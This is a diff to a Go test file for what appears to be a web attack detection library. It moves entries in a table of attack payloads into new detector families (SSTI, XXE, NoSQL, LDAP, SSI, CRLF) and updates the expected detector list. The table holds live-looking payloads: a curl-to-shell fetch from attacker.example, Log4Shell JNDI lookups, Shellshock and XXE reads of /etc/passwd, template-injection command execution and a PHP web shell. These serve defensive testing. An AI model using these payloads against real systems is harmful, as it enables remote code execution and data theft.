@@ -56,7 +56,7 @@ var attacks = []struct {
 	{"cmdi", "q", "$(curl http://attacker.example/x.sh | sh)"},
 	{"cmdi", "q", "127.0.0.1 && ping -c 3 attacker.example"},
 	{"cmdi", "q", "x;${IFS}cat${IFS}/etc/passwd"},
-	{"cmdi", "q", "<!--#exec cmd=\"/bin/ls\"-->"},
+	{"ssi", "q", "<!--#exec cmd=\"/bin/ls\"-->"},
 	{"cmdi", "ua", "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
 	{"cmdi", "q", "system('id')"},
 	// SSRF
@@ -71,18 +71,18 @@ var attacks = []struct {
 	{"code", "ua", "${jndi:ldap://attacker.example/a}"},
 	{"code", "header:X-Api-Version", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"},
 	{"code", "header:Referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/x}"},
-	{"code", "q", "{{7*7}}"},
-	{"code", "q", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
-	{"code", "q", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
-	{"code", "q", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
+	{"ssti", "q", "{{7*7}}"},
+	{"ssti", "q", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
+	{"ssti", "q", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
+	{"ssti", "q", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
 	{"code", "q", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"},
 	{"code", "q", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="},
 	{"code", "q", `O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`},
 	{"code", "q", "<?php system($_GET['c']); ?>"},
-	{"code", "body:application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`},
+	{"xxe", "body:application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`},
 	{"code", "body:application/json", `{"__proto__":{"isAdmin":true}}`},
-	{"code", "body:application/json", `{"user":{"$ne":null},"password":{"$ne":null}}`},
-	{"code", "q", "*)(uid=*))(|(uid=*"},
+	{"nosql", "body:application/json", `{"user":{"$ne":null},"password":{"$ne":null}}`},
+	{"ldap", "q", "*)(uid=*))(|(uid=*"},
 	{"code", "q", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
 	// Scanners
 	{"scanner", "ua", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
@@ -97,7 +97,7 @@ var attacks = []struct {
 	{"protocol", "method", "TRACE"},
 	{"protocol", "header:Transfer-Encoding", "chunked"}, // with a Content-Length, below
 	{"protocol", "header:Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9,9-10,10-11,11-12"},
-	{"protocol", "q", "x\r\nSet-Cookie: session=attacker"},
+	{"crlf", "q", "x\r\nSet-Cookie: session=attacker"},
 	{"protocol", "header:Content-Type", "text/html; charset=UTF-7"},
 }
 
@@ -263,7 +263,7 @@ func TestDisable(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if got := strings.Join(d.Detectors(), ","); got != "xss,traversal,cmdi,ssrf,code,protocol" {
+	if got := strings.Join(d.Detectors(), ","); got != "xss,traversal,cmdi,ssrf,ssti,xxe,nosql,ldap,ssi,crlf,code,protocol" {
 		t.Fatalf("Detectors() = %s", got)
 	}
 	if sigs := detect(t, d, build(t, "q", "' OR '1'='1")); hasFamily(sigs, "sqli") {
